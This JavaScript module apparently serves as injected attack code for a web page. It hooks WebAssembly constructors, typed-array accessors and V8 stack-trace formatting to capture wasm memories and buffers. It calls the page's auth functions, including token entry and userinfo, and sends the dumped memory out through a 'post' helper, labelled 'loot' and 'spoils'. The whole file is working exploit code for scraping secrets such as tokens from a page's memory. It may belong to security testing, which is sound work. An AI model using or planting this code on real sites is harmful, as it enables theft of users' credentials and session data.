/** Runs in the page, early: keeps every WebAssembly instance and memory that is made from now on. */
export function catchInstances(evil) {
  const kept = [];
  evil.memories = () => kept.flatMap(evil.memoriesOf);
  const keep = (made) => (kept.push(made.instance ?? made), made);
  for (const name of ["Instance", "Memory"]) {
    WebAssembly[name] = new Proxy(WebAssembly[name], {
      construct: (original, values, target) => keep(Reflect.construct(original, values, target)),
    });
  }
  for (const name of ["instantiate", "instantiateStreaming"]) {
    const original = WebAssembly[name];
    WebAssembly[name] = (...values) => original.apply(WebAssembly, values).then(keep);
  }
}

/**
 * Runs in the page: loads its modules again and looks through what they export, and through all that the global object
 * leads to, for WebAssembly and for buffers. Resolves to their bytes as text.
 */
export async function seekMemory(evil) {
  const found = new Set(evil.memories?.() ?? []);
  const urls = performance
    .getEntriesByType("resource")
    .map(({ name }) => name)
    .filter((name) => name.startsWith(location.origin) && name.endsWith(".js"));
  const modules = await Promise.all(urls.map((url) => import(url).catch(() => null)));
  const known = new Set([globalThis, ...modules]);
  for (const value of known) {
    const isObject = (typeof value === "object" && value !== null) || typeof value === "function";
    if (!isObject || value === evil || known.size > 150_000) continue;
    if (evil.isMemory(value) || value instanceof WebAssembly.Instance || value instanceof ArrayBuffer) found.add(value);
    for (const name of Reflect.ownKeys(value)) known.add(evil.read(value, name));
    known.add(Object.getPrototypeOf(value));
  }
  const buffers = [...found].flatMap((one) => (one instanceof ArrayBuffer ? [one] : evil.memoriesOf(one).map(({ buffer }) => buffer)));
  const bytes = buffers.map((buffer) => evil.latin1(new Uint8Array(buffer)));
  return { loot: bytes.join("\n"), modules: modules.filter(Boolean).length };
}

/** Runs in the page, late: has the accessors tell that glue code asks for its memory. */
export function tapMemory(evil) {
  const buffers = new Set();
  const typedArray = Object.getPrototypeOf(Uint8Array.prototype);
  const tap = (owner, name, bufferOf) => {
    const descriptor = Object.getOwnPropertyDescriptor(owner, name);
    const { get } = descriptor;
    Object.defineProperty(owner, name, {
      ...descriptor,
      get() {
        const value = get.call(this);
        const buffer = bufferOf(this, value);
        if (buffer instanceof ArrayBuffer && buffer.resizable === false) buffers.add(buffer);
        return value;
      },
    });
  };
  const { get: bufferOfView } = Object.getOwnPropertyDescriptor(typedArray, "buffer");
  tap(WebAssembly.Memory.prototype, "buffer", (memory, buffer) => buffer);
  for (const name of ["byteLength", "length"]) tap(typedArray, name, (view) => bufferOfView.call(view));
  evil.spoils = () =>
    [...buffers]
      .filter(({ byteLength }) => byteLength > 65_536)
      .map((one) => evil.latin1(new Uint8Array(one)))
      .join("\n");
}

/** Runs in the page, late: V8 lets whoever formats a stack ask each frame for its `this`, which is the instance for wasm. */
export async function traceCalls(evil) {
  const found = new Set();
  let sites = 0;
  Error.prepareStackTrace = (_, frames) => {
    sites += frames.length;
    for (const frame of frames) for (const name of ["getThis", "getFunction"]) found.add(frame[name]());
    return "";
  };
  const trace = (owner, name) => {
    const original = owner[name];
    owner[name] = function (...given) {
      void new Error().stack;
      return Reflect.apply(original, this, given);
    };
  };
  const calls = [
    [performance, "now"],
    [Date, "now"],
    [JSON, "parse"],
    [globalThis, "setTimeout"],
    [globalThis, "queueMicrotask"],
  ];
  calls.push([AbortSignal, "timeout"], [IDBFactory.prototype, "open"], [Map.prototype, "get"], [Array.prototype, Symbol.iterator]);
  for (const [owner, name] of calls) trace(owner, name);
  const { auth } = globalThis.app;
  for (const call of [() => auth.stats(), () => auth.enterToken("x"), () => auth.userinfo()]) await call().catch((error) => error.stack);
  delete Error.prepareStackTrace;
  const memories = [...found].flatMap(evil.memoriesOf);
  await evil.post(memories.map((memory) => evil.latin1(new Uint8Array(memory.buffer))).join());
  return { sites };
}
